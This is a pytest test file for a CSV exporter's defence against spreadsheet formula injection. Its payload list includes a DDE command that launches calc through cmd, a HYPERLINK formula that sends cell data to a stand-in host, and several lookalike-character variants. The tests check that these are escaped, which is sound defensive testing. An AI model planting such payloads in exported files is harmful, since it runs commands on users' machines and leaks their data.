"""No text of a CSV that mersey writes runs when it is opened in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from mersey.charts.chart import Table
from mersey.formulas import as_text_cell

FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "\uff20SUM(A1)",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff\u200b=1+1",
    '=HYPERLINK("http://x/?"&A1)',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_when_a_table_is_written(text):
    table = Table(columns=(text, "n"), rows=((text, "1"),), raw=((text, 1),))
    written = list(csv.reader(io.StringIO(table.csv(), newline="")))
    assert written == [[f"'{text}", "n"], [f"'{text}", "1"]]


@pytest.mark.parametrize("text", ["-3.5", "+2", "Received", "", "a=b", "-1e3"])
def test_text_stays_as_it_is_when_nothing_would_run(text):
    assert as_text_cell(text) == text
